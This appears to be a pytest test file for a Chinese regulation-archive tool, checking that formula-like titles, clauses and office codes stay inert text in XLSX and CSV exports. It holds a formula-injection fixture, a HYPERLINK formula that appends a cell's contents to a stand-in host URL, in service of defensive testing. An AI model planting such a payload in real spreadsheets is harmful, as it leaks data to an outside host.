"""Item 2: text from documents and staff never becomes a live formula in any spreadsheet we write."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from reviewer.archive import Archive, Settings
from tests.hostile.helpers import LAWFUL, published, run

HOSTILE_TITLE = '=HYPERLINK("http://example.invalid/?d="&B2,"打开")'


def _formulas(xlsx: Path) -> list[str]:
    """Every <f> element in every sheet of the workbook (none expected)."""
    with zipfile.ZipFile(xlsx) as zf:
        return [name for name in zf.namelist() if name.startswith("xl/worksheets/") and b"<f>" in zf.read(name)]


def test_archive_export_xlsx_stores_a_formula_like_title_as_text(tmp_path):
    db = published(tmp_path, title=HOSTILE_TITLE)
    out = tmp_path / "目录.xlsx"
    assert run("archive", "--db", str(db), "export", str(out)).exit_code == 0
    assert _formulas(out) == []
    row = [c.value for c in load_workbook(out).active[4]]  # under the title, as-of and header lines
    assert HOSTILE_TITLE in row


def test_archive_export_csv_quotes_every_formula_prefix(tmp_path):
    db = published(tmp_path, title=HOSTILE_TITLE)
    with Archive.open(db) as archive:
        for n, lead in enumerate("+-@"):
            draft = tmp_path / f"{n}.txt"
            draft.write_text(LAWFUL, encoding="utf-8")
            from reviewer.archive import FilingMeta

            doc = archive.submit(str(draft), FilingMeta(title=f"{lead}1+1 标题{n}", issuer="某局")).id
            archive.review(doc, "通过")
            archive.register(doc, "2026-03-01")
            archive.publish(doc, "2026-03-05", "政府网站")
    out = tmp_path / "目录.csv"
    assert run("archive", "--db", str(db), "export", str(out)).exit_code == 0
    titles = [row[2] for row in csv.reader(out.read_text(encoding="utf-8-sig").splitlines())][1:]
    assert sorted(titles) == sorted(["'" + HOSTILE_TITLE, "'+1+1 标题0", "'-1+1 标题1", "'@1+1 标题2"])


def test_check_xlsx_report_keeps_a_formula_clause_as_text(tmp_path):
    draft = tmp_path / "d.txt"
    draft.write_text("某办法\n第一条 =HYPERLINK(\"http://x\") 对违反本办法的，处500元罚款。\n", encoding="utf-8")
    out = tmp_path / "r.xlsx"
    assert run("check", str(draft), "-f", "xlsx", "-o", str(out)).exit_code == 1
    assert _formulas(out) == []


def test_an_office_code_like_a_formula_survives_audit_export_and_apply(tmp_path):
    db = tmp_path / "reviewer.db"
    draft = tmp_path / "lawful.txt"
    draft.write_text(LAWFUL, encoding="utf-8")
    with Archive.create(db, Settings(office="某市司法局", code="=1+"), user="测试") as archive:
        doc = archive.submit(str(draft)).id
        archive.review(doc, "通过")
        number = archive.register(doc, "2026-03-01").data["number"]
        archive.publish(doc, "2026-03-05", "政府网站")
    assert number.startswith("=1+")
    base = ["audit", "--db", str(db), "--user", "王五"]
    assert run(*base, "run", "--as-of", "2026-11-28", "--no-recheck").exit_code == 0
    book_path = tmp_path / "清理结果.xlsx"
    assert run(*base, "export", "-o", str(book_path)).exit_code == 0
    assert _formulas(book_path) == []
    book = load_workbook(book_path)
    (sheet,) = [book[n] for n in ("继续有效", "修改", "废止", "宣布失效") if book[n].max_row > 1]
    header = [c.value for c in sheet[1]]
    assert sheet.cell(2, header.index("登记号") + 1).value == number
    sheet.cell(2, header.index("决定") + 1).value = "继续有效"
    book.save(book_path)
    result = run(*base, "apply", str(book_path), "--lists-dir", str(tmp_path / "lists"), "-f", "json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["applied"] in (0, 1)
    for listed in (tmp_path / "lists").glob("*.xlsx"):
        assert _formulas(listed) == []
